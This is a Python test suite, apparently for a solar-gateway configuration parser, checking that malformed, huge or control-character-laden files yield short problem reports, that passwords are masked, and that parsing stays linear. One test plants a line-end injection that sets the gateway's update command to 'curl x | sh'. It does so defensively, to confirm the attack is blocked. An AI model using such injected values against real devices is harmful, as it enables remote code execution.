"""Files edited by hand or pushed by a server, as they really come: numbers of thousands of digits,
control characters, lines of megabytes. Every one gives a one-line problem naming file, line and
field (docs/formats.md §1.2), never another exception."""

from __future__ import annotations

import contextlib
import shutil
import tempfile
import time
from pathlib import Path
from typing import Any

import pytest
from config_support import CASES
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import config
from config import ConfigError

BIG = "9" * 5000   # past Python's 4,300-digit int() limit
DEF_HEAD = "modbusTCP;Inverter;ACME;X\n"
DAQ_DEVICES = ("index;interface;name;address;acqPeriod(s);timeout(ms);serialNumber;parameters;"
               "category;model;defFile\n")
PARSERS: list[tuple[Any, str]] = [
    (config.parse_definition, "x.csv"), (config.parse_daq, "u_daq.csv"),
    (config.parse_var_ini, "u_var.ini"), (config.parse_config_ini, "u_config.ini"),
    (config.parse_scl, "u_scl.ini")]


def _problems(parse: Any, data: str | bytes, name: str) -> list[str]:
    raw = data.encode() if isinstance(data, str) else data
    try:
        return [str(p) for p in parse(raw, name).warnings]
    except ConfigError as err:
        return [str(p) for p in err.problems]


@pytest.mark.parametrize(("parse", "name", "data", "expected"), [
    (config.parse_config_ini, "u_config.ini", f"WEB_Port={BIG}\n",
     f"u_config.ini:1: WEB_Port: '{'9' * 37}...' is not an integer from 1 to 65535; default 8080 used"),
    (config.parse_var_ini, "u_var.ini", f"SCHEDULE_Params[0]=1|everyday|00:00:00|{BIG}|1\n",
     f"u_var.ini:1: Interval: '{'9' * 37}...' is outside 1..1440; default 1440 used"),
    (config.parse_var_ini, "u_var.ini", f"SCHEDULE_Params[{BIG}]=1\n",
     "malformed key (SCHEDULE_Params[<n>] or SCHEDULE2_Params[<n>]); file rejected"),
    (config.parse_scl, "u_scl.ini", f"SCRIPT_File[{BIG}]=a.lua\n",
     "malformed key (SCRIPT_File[<n>]); file rejected"),
    (config.parse_definition, "x.csv", f"{DEF_HEAD}{BIG};3;1;U16;;n;;1;0;;4\n",
     f"x.csv:2: Index: '{'9' * 37}...' is outside 0..2147483647; file rejected"),
    (config.parse_definition, "x.csv", f"{DEF_HEAD}1;3;40000_{BIG};String;;n;;1;0;;4\n",
     f"x.csv:2: Info2: '40000_{'9' * 31}...' holds a number of more than 9 digits; "
     "file rejected"),
    (config.parse_daq, "u_daq.csv", f"tcpInterFrameMs;{BIG}\n",
     f"u_daq.csv:1: tcpInterFrameMs: '{'9' * 37}...' is outside 0..10000; default 0 used"),
    (config.parse_daq, "u_daq.csv", f"port;speed\nSERIAL1;{BIG}\n",
     f"u_daq.csv:2: speed: '{'9' * 37}...' is not one of 1200, 2400, 4800, 9600, 19200, "
     "38400, 57600, 115200; default 9600 used"),
])
def test_a_number_of_thousands_of_digits_is_out_of_range_shown_cut(
        parse: Any, name: str, data: str, expected: str) -> None:
    problems = _problems(parse, data, name)
    assert any(p.endswith(expected) for p in problems), problems
    assert all(len(p) < 200 for p in problems)


def test_a_value_of_a_megabyte_is_quoted_cut_to_one_readable_line() -> None:
    problems = _problems(config.parse_config_ini, "FTP_RootDir=" + "x" * 1_000_000 + "\n",
                         "u_config.ini")
    assert problems == [f"u_config.ini:1: FTP_RootDir: '{'x' * 37}...' is not an absolute path; "
                        "default / used"]


def test_control_characters_of_a_file_are_escaped_in_its_problems() -> None:
    assert _problems(config.parse_config_ini, "FTP_\x00User=wpm\nLOG_Level=\x1b[31m\n",
                     "u_config.ini") == [
        "u_config.ini:1: FTP_\\x00User: unknown key (did you mean FTP_User?); ignored",
        "u_config.ini:2: LOG_Level: control character 0x1B; default info used"]
    assert _problems(config.parse_daq, DAQ_DEVICES + "1;192.168.1.\x07;a;1;;;;;;;d.csv\n",
                     "u_daq.csv") == [
        "u_daq.csv:2: interface: '192.168.1.\\x07' is not SERIAL1..3, <ipv4> or <ipv4>:<port>; "
        "file rejected"]


@pytest.mark.parametrize(("line", "expected"), [
    ("STORE_Path=/data/st\x00re", "STORE_Path: control character 0x00; default (empty) used"),
    ("FTP_User=w\x01pm", "FTP_User: control character 0x01; default (empty) used"),
    ("FTP_Password=s3\x7fcret", "FTP_Password: control character 0x7F; default (empty) used"),
    ("SYSTEM_UpdateCommand=install \x00", "SYSTEM_UpdateCommand: control character 0x00; "
                                          "default (empty) used"),
    ("MQTT_TopicData=plant/\u0085data", "MQTT_TopicData: control character 0x85; "
                                        "default (empty) used"),
    ("MODEM_Port=/dev/ttyS\x000", "MODEM_Port: control character 0x00; file rejected"),
])
def test_a_control_character_in_a_config_value_is_refused_where_it_is_read(
        line: str, expected: str) -> None:
    # A NUL in STORE_Path made `sunpm run` end in a traceback ("embedded null byte") when the
    # store opened; each such value now gets §1.2's treatment in the file itself.
    assert _problems(config.parse_config_ini, line + "\n", "u_config.ini") == \
        [f"u_config.ini:1: {expected}"]


def test_a_tab_inside_a_text_value_is_kept() -> None:
    parsed = config.parse_config_ini(b"SYSTEM_UpdateCommand=install\t--yes\n", "u_config.ini")
    assert parsed.warnings == ()
    assert parsed.value.settings("u").system_update_command == "install\t--yes"


def test_a_rejected_device_row_naming_dot_dot_reads_no_folder(tmp_path: Path) -> None:
    site = tmp_path / "site"
    shutil.copytree(CASES / "warnings_only", site)
    daq = site / "CONFIG" / "WPM00BDE4_daq.csv"
    daq.write_bytes(daq.read_bytes().replace(b"inv_small.csv", b".."))
    # One error, on its line: `DEF/..` is never read (it was, as "DEF/..: file: cannot be
    # read (Is a directory)").
    errors = [str(p) for p in config.check_site(site) if p.severity.value == "error"]
    assert errors == ["WPM00BDE4_daq.csv:12: defFile: '..' is not a file name; file rejected"]


# ---------------------------------------------------------------------------- properties

_digits = st.text("0123456789", min_size=4400, max_size=4600)
_cell = st.one_of(_digits, st.text(max_size=6), st.sampled_from(["-", "_", " ", "\x00", "e"]))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                  HealthCheck.large_base_example])
@given(st.lists(_cell, min_size=1, max_size=12), st.sampled_from(["=", ";", "|", "[", "]"]))
def test_long_digit_runs_anywhere_raise_nothing_but_config_error(cells: list[str],
                                                                  sep: str) -> None:
    body = sep.join(cells)
    texts = [body, f"SCHEDULE_Params[{body}]={body}", f"SCRIPT_File[0]={body}",
             f"WEB_Port={body}", f"{DEF_HEAD}{body}", f"index\n{body}", f"port\n{body}"]
    for text in texts:
        for parse, name in PARSERS:
            with contextlib.suppress(ConfigError):
                parse((text + "\n").encode(), name)


def test_a_url_cut_in_a_problem_never_shows_its_password() -> None:
    # Cut at 40 characters, the `@` after the password would be lost and the password printed.
    url = "https://operator:Sup3rS3cretPassw0rd@dav.example.com/tree/"
    (problem,) = _problems(config.parse_config_ini, f"HTTP_Url={url}\n", "u_config.ini")
    assert "Sup3r" not in problem
    assert problem.startswith("u_config.ini:1: HTTP_Url: 'https://operator:***@dav.example.com/")


# ---------------------------------------------------------------------------- config show

_EDITS = {
    "as is": lambda b: b,
    "BOM": lambda b: b"\xef\xbb\xbf" + b,
    "CRLF": lambda b: b.replace(b"\n", b"\r\n"),
    "CR": lambda b: b.replace(b"\n", b"\r"),
    "trailing spaces and tabs": lambda b: b.replace(b"\n", b" \t \n"),
    "no last line end": lambda b: b.rstrip(b"\n"),
}


def _shown(site: config.Site) -> dict[str, Any]:
    """`config show` less what moves with the bytes (line numbers, digests, warnings)."""
    out = config.site_to_json(site)
    daq: Any = out["daq"]
    for row in [*daq["devices"], *daq["serial"], *daq["lan"]]:
        row.pop("line")
    definitions: Any = out["definitions"]
    for definition in definitions.values():
        definition.pop("sha256")
    out.pop("warnings")
    return out


def _written(site: config.Site, directory: Path) -> None:
    """The site as the writers write it (`config show` -> files -> `config show`)."""
    uid = site.uid
    files = {f"CONFIG/{uid}_config.ini": config.render_config_ini(site.config_ini),
             f"CONFIG/{uid}_var.ini": config.render_var_ini(site.var_ini),
             f"CONFIG/{uid}_daq.csv": config.render_daq(site.daq),
             f"CONFIG/{uid}_scl.ini": config.render_scl(site.scripts)}
    files |= {f"DEF/{n}": config.render_definition(d) for n, d in site.definitions.items()}
    files |= {rel: data for rel, data in site.loaded.items() if rel not in files
              and not rel.startswith("CONFIG/")}
    for rel, data in files.items():
        (directory / rel).parent.mkdir(parents=True, exist_ok=True)
        (directory / rel).write_bytes(data)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.dictionaries(st.sampled_from(["CONFIG/WPM00BDE4_config.ini", "CONFIG/WPM00BDE4_var.ini",
                                        "CONFIG/WPM00BDE4_daq.csv", "CONFIG/WPM00BDE4_scl.ini",
                                        "DEF/inv_small.csv", "DEF/WPM00BDE4_IO.csv",
                                        "DEF/WPM00BDE4_TIC_LINKY.csv"]),
                       st.sampled_from(sorted(_EDITS)), max_size=7))
def test_line_ends_bom_and_trailing_blanks_change_nothing_shown_and_show_round_trips(
        edits: dict[str, str]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        reference = config.load_site(CASES / "warnings_only")
        site_dir = Path(tmp) / "site"
        shutil.copytree(CASES / "warnings_only", site_dir)
        for rel, edit in edits.items():
            path = site_dir / rel
            path.write_bytes(_EDITS[edit](path.read_bytes()))
        edited = config.load_site(site_dir)
        assert _shown(edited) == _shown(reference)
        _written(edited, Path(tmp) / "written")
        assert _shown(config.load_site(Path(tmp) / "written")) == _shown(reference)


def test_a_value_set_with_a_line_end_never_writes_a_key_of_its_own() -> None:
    # A web form or command value `internet\nSYSTEM_UpdateCommand=...` wrote a second line,
    # setting a local-only key (what the gateway executes) nobody had the right to set.
    cfg = config.parse_config_ini(b"MODEM_Apn=a\n", "u_config.ini").value
    changed = cfg.with_value("MODEM_Apn", "internet\nSYSTEM_UpdateCommand=curl x | sh") \
        .with_value("WEB_User", "admin\r\nWEB_Port=1")
    reread = config.parse_config_ini(config.render_config_ini(changed), "u_config.ini").value
    assert set(reread.values) == {"MODEM_Apn", "WEB_User"}
    assert reread.settings("u").system_update_command == ""
    assert reread.settings("u").web_port == 8080


_value = st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")),
                 max_size=20).map(lambda s: s.strip(" \t"))
_KEYS = config.config_ini.KEYS


def _written_keys(values: dict[str, str | None], read: Any) -> dict[str, str]:
    """What the writer keeps: every value, but a key absent from the file read and set to its
    default (docs/formats.md §4: not appended)."""
    return {k: v for k, v in values.items() if v is not None
            and not (k not in read and k in _KEYS and v == (_KEYS[k].default or ""))}


@settings(max_examples=80, deadline=None)
@given(st.dictionaries(st.sampled_from([*_KEYS, "VENDOR_Key", "ftp_host"]), _value, max_size=12),
       st.dictionaries(st.sampled_from(sorted(_KEYS)), st.one_of(st.none(), _value), max_size=4),
       st.sampled_from(["", "\r\n", "\n ", "\t"]))
def test_any_values_written_then_read_are_the_values(first: dict[str, str],
                                                      edits: dict[str, str | None],
                                                      noise: str) -> None:
    """parse(render(x)) == x for any text values, valid or not (their checks are the
    reader's), and again after edits of the file read (a set value holding a line end is one
    line, its CR/LF as spaces)."""
    try:
        parsed = config.parse_config_ini(config.render_config_ini(config.new_config(first)),
                                         "u_config.ini").value
    except ConfigError:
        return  # a value whose key has no default, that its server type needs
    assert dict(parsed.values) == _written_keys(dict(first), {})
    edited = parsed
    for key, value in edits.items():
        edited = edited.with_value(key, None if value is None else value + noise)
    try:
        again = config.parse_config_ini(config.render_config_ini(edited), "u_config.ini").value
    except ConfigError:
        return
    expected = _written_keys(dict(edited.values), parsed.values)
    assert dict(again.values) == {k: v.replace("\r", " ").replace("\n", " ").strip(" \t")
                                  for k, v in expected.items()}


def test_a_long_value_of_many_words_is_reported_in_linear_time() -> None:
    # The URL password pattern was searched from every word start: `a.a.a.` of 80 KB took
    # about a minute (quadratic), a megabyte hours, in every problem line and `config show`.
    value = "a." * 40_000
    # CPU seconds, which a loaded box does not stretch: the complexity is what is checked.
    started = time.process_time()
    (problem,) = _problems(config.parse_config_ini, f"FTP_RootDir={value}\n", "u_config.ini")
    assert time.process_time() - started < 5, "quadratic"
    assert problem.endswith("is not an absolute path; default / used")


def test_every_url_password_in_a_text_is_masked() -> None:
    masked = config._text.url_passwords_masked
    assert masked("x https://u:p@h and ftp://a:b:c@d/ s3://e@f http://g:8080/") == \
        "x https://u:***@h and ftp://a:***@d/ s3://e@f http://g:8080/"


def test_a_definition_of_many_strings_without_byte_count_is_read_in_linear_time() -> None:
    # Each such String looked at every variable for the next address: 16,000 of them took a
    # minute, a server's 4 MiB file hours of the session's validation.
    rows = "".join(f"{i};3;{i};String;;n{i};;1;0;;1\n" for i in range(16_000))
    started = time.process_time()                   # about 1 CPU-s
    parsed = config.parse_definition((DEF_HEAD + rows).encode(), "x.csv")
    assert time.process_time() - started < 20, "quadratic"
    spans = {v.modbus.string_bytes for v in parsed.value.variables if v.modbus is not None}
    assert spans == {2}


def test_a_long_decimal_ending_in_a_letter_is_refused_in_linear_time() -> None:
    # `[0-9]+\.?[0-9]*` tried every split of the digits before failing: 40,000 digits and a
    # letter took over a minute.
    coef = "1" * 40_000 + "x"
    started = time.process_time()
    (problem,) = _problems(config.parse_definition, f"{DEF_HEAD}1;3;1;U16;;n;;{coef};0;;4\n",
                           "x.csv")
    assert time.process_time() - started < 5, "quadratic"
    assert problem == f"x.csv:2: CoefA: '{'1' * 37}...' is not a number; default 1 used"


def test_sections_pasted_from_a_windows_ini_are_named_as_such() -> None:
    data = "[server]\nSERVER_Type=none\n[server]\nLOG_Level=debug\n"
    assert _problems(config.parse_config_ini, data, "u_config.ini") == [
        f"u_config.ini:{n}: line: '[server]' is a section header; these files have no sections "
        "(KEY=VALUE lines only); file rejected" for n in (1, 3)]


def test_a_server_file_of_many_unknown_keys_is_read_in_a_few_seconds() -> None:
    # Every unknown key was compared with the hundred known ones for a hint, past the 1,000
    # problems kept too: 0.7 ms a key, 50,000 keys half a minute, a 4 MiB file minutes of a
    # session's validation.
    data = "".join(f"FTP_Hostx{i}=a\n" for i in range(50_000))
    started = time.process_time()
    problems = _problems(config.parse_config_ini, data, "u_config.ini")
    assert time.process_time() - started < 10
    assert problems[0] == "u_config.ini:1: FTP_Hostx0: unknown key (did you mean FTP_Host?); ignored"
    assert problems[-1] == "u_config.ini: ... and 49000 more"
